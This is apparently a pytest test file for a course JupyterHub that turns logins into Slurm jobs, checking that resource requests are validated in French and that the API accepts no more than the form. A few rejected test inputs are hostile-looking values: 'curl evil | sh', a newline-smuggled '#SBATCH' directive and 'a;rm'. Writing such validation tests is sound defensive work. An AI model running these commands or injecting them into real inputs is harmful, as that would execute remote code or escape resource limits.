"""A login on the hub starts a job of a real Slurm, within what the course allows, and knows it."""

import html
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlencode

import pytest
import requests
from websocket import create_connection

from tests.support import slurm_cluster
from tests.support.course_cases import ROOT

sys.path.insert(0, str(ROOT / "hub"))
from session import Limits, checked, form, from_form

LIMITS = Limits(hours=5, cpus=4, memory_mb=3500, gpus=(("", "Aucun"), ("gpu:1g.5gb:1", "Tranche")))
PASSWORD = "demonstration"


# ---- The form


@pytest.mark.parametrize(
    ("asked", "why"),
    [
        ({"hours": "6"}, "Le temps, en heures, doit être entre 0,1 et 5"),
        ({"hours": "nan"}, "entre"),
        ({"hours": "-1"}, "entre"),
        ({"cpus": "64"}, "Le nombre de cœurs doit être entre 1 et 4"),
        ({"cpus": "deux"}, "doit être un nombre"),
        ({"memory_mb": "512"}, "La mémoire"),
        ({"memory_mb": ["1024", "9"]}, "doit être un nombre"),
        ({"gpu": "gpu:h100:4"}, "pas dans la liste"),
        ({"reservation": "cours\n#SBATCH --time=99:00:00"}, "réservation"),
        ({"reservation": "a;rm"}, "réservation"),
        ({"prologue": "curl evil | sh"}, "Option inconnue : prologue"),
        ({"cmd": "sleep 9999"}, "Option inconnue"),
    ],
)
def test_what_is_not_allowed_is_refused_in_french(asked, why):
    with pytest.raises(ValueError, match=why):
        checked(asked, LIMITS)


def test_what_is_allowed_comes_through_and_is_stable():
    asked = {"hours": "2,5", "cpus": "2", "gpu": "gpu:1g.5gb:1", "reservation": " glo4030-2026 "}
    session = checked(asked, LIMITS)
    assert session == {
        "hours": 2.5,
        "cpus": 2,
        "memory_mb": 2048,
        "gpu": "gpu:1g.5gb:1",
        "reservation": "glo4030-2026",
    }
    assert checked(session, LIMITS) == session
    assert checked({}, LIMITS)["cpus"] == 1


def test_the_form_asks_for_all_of_it_in_french():
    page = form(LIMITS)
    fields = re.findall(r'name="(\w+)"', page)
    assert fields == ["hours", "cpus", "memory_mb", "gpu", "reservation"]
    for word in ("Temps (heures)", "Nombre de cœurs", "Mémoire (Mo)", "GPU", "Réservation"):
        assert word in page
    sent = {name: [""] for name in fields} | {"hours": ["1"], "cpus": ["1"], "_xsrf": ["x"]}
    sent["memory_mb"] = ["2048"]
    assert from_form(sent, LIMITS)["hours"] == 1


# ---- On a real Slurm


@pytest.fixture(scope="module")
def slurm(shared_slurm) -> slurm_cluster.Slurm:
    for package in ("jupyterhub", "batchspawner"):
        pytest.importorskip(package, reason=f"{package} is missing: requirements.txt")
    if not shutil.which("npm"):
        pytest.skip("npm is not installed")
    shared_slurm.heal()
    return shared_slurm


@pytest.fixture(scope="module")
def address(slurm, tmp_path_factory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("hub")
    with slurm_cluster.bound(1) as (taken,):
        port = taken.getsockname()[1]
    options = ["--slurm", "--folder", str(folder / "hub"), "--port", str(port)]
    with (folder / "log").open("w") as log:
        running = subprocess.Popen(
            [
                sys.executable,
                str(ROOT / "hub/start.py"),
                *options,
                "--no-serve",
                "--password",
                PASSWORD,
            ],
            stdout=log,
            stderr=log,
            env=os.environ | slurm.environment | {"PYTHONPATH": str(ROOT)},
        )
        try:
            address = f"http://127.0.0.1:{port}"
            wait_for_hub(address, running, folder / "log")
            yield address
        finally:
            running.send_signal(signal.SIGINT)
            running.wait(timeout=60)


def wait_for_hub(address: str, running: subprocess.Popen, log: Path) -> None:
    def answers() -> bool:
        assert running.poll() is None, log.read_text()
        try:
            return "version" in requests.get(f"{address}/hub/api", timeout=5).json()
        except (requests.RequestException, ValueError):
            return False

    slurm_cluster.wait_until(answers, "the hub does not start", 150)


@dataclass
class Browser:
    """What a user's browser does, without one."""

    address: str
    user: str
    http: requests.Session = field(default_factory=requests.Session)

    def log_in(self) -> None:
        self.http.get(f"{self.address}/hub/login")
        self.post("/hub/login", {"username": self.user, "password": PASSWORD})

    def xsrf(self, path: str) -> str:
        """The token that this path's server gave."""
        cookies = [c for c in self.http.cookies if c.name == "_xsrf" and path.startswith(c.path)]
        return max(cookies, key=lambda cookie: len(cookie.path)).value

    def get(self, path: str) -> requests.Response:
        return self.http.get(self.address + path, timeout=60)

    def post(self, path: str, fields: dict, **options) -> requests.Response:
        query = urlencode({"_xsrf": self.xsrf(path)})
        return self.http.post(f"{self.address}{path}?{query}", fields, timeout=120, **options)

    def spawn(self, **fields: str) -> str:
        """Send the form; what the page answers."""
        return html.unescape(self.post("/hub/spawn", fields).content.decode())

    def wait_for_server(self) -> None:
        def ready() -> bool:
            answer = self.get(f"/user/{self.user}/lab")  # by way of the hub, which lets in
            return answer.ok and answer.url.startswith(f"{self.address}/user/")

        slurm_cluster.wait_until(ready, "the session does not start", 120)

    def run(self, *cells: str) -> list[str]:
        """What a notebook's cells print, in a kernel of the session."""
        base = f"/user/{self.user}"
        made = self.post(f"{base}/api/kernels", json.dumps({"name": "python3"}))
        kernel = made.json()["id"]
        cookies = "; ".join(f"{c.name}={c.value}" for c in self.http.cookies)
        channels = f"{self.address.replace('http', 'ws')}{base}/api/kernels/{kernel}/channels"
        socket = create_connection(channels, cookie=cookies, timeout=120)
        try:
            return [self._run(socket, cell) for cell in cells]
        finally:
            socket.close()

    def _run(self, socket, code: str) -> str:
        name = uuid.uuid4().hex
        header = {"msg_id": name, "msg_type": "execute_request", "session": name, "version": "5.3"}
        header |= {"username": self.user, "date": ""}
        content = {"code": code, "silent": False, "store_history": True, "allow_stdin": False}
        message = {"header": header, "parent_header": {}, "metadata": {}, "content": content}
        socket.send(json.dumps(message | {"channel": "shell", "buffers": []}))
        printed = []
        while True:
            answer = json.loads(socket.recv())
            if answer["parent_header"].get("msg_id") != name:
                continue
            if answer["msg_type"] in ("stream", "error"):
                printed.append(
                    answer["content"].get("text") or "\n".join(answer["content"]["traceback"])
                )
            if answer["content"].get("execution_state") == "idle":
                return "".join(printed)


@pytest.fixture
def alice(address):
    browser = Browser(address, "alice")
    browser.log_in()
    return browser


DOCTOR = """
import subprocess
said = subprocess.run(["labo", "doctor", "--json"], capture_output=True)
print(said.stdout.decode())
"""


@pytest.mark.slow
def test_a_session_is_a_job_and_knows_it(slurm, alice):
    assert "Nombre de cœurs" in alice.get("/hub/spawn").content.decode()
    assert "doit être entre 1 et 4" in alice.spawn(hours="1", cpus="9", memory_mb="2048")
    assert not slurm.jobs("RUNNING,PENDING")

    alice.spawn(hours="0.2", cpus="2", memory_mb="2048", gpu="", reservation="")
    alice.wait_for_server()
    (job,) = slurm.jobs()
    facts = slurm.run("squeue", "-h", "-j", job, "-o", "%j %C %m %l")
    assert facts == "jupyter 2 2G 12:00"
    says, warning, again = alice.run(DOCTOR, "import labo; labo.device()\n1", "labo.device()")
    found = {one["subject"]: one for one in json.loads(says)}
    assert f"grappe Slurm, tâche {job}" in found["machine"]["text"]
    assert found["cœurs"]["text"] == "2 (SLURM_CPUS_PER_TASK)"
    assert found["mémoire"]["text"] == "2,0 Gio (SLURM_MEM_PER_NODE)"
    assert re.fullmatch(r"il reste 0 h (11|10|09)", found["temps"]["text"])
    assert "aucun GPU n'a été demandé" in found["GPU"]["text"]
    assert re.search(r"Cette session se termine dans (11|10|9) min", warning)
    assert again == ""

    alice.http.delete(
        f"{alice.address}/hub/api/users/alice/server",
        params={"_xsrf": alice.xsrf("/hub/")},
        headers={"Referer": f"{alice.address}/hub/home"},
    )
    slurm_cluster.wait_until(lambda: not slurm.jobs("RUNNING,PENDING"), "the job goes on")


@pytest.mark.slow
@pytest.mark.parametrize("asked", [{"cpus": 64}, {"prologue": "touch /tmp/out"}, {"hours": 1e9}])
def test_the_api_allows_no_more_than_the_form(slurm, alice, asked):
    answer = alice.post("/hub/api/users/alice/server", json.dumps(asked))
    assert answer.status_code == 400, answer.text
    assert not slurm.jobs("RUNNING,PENDING")
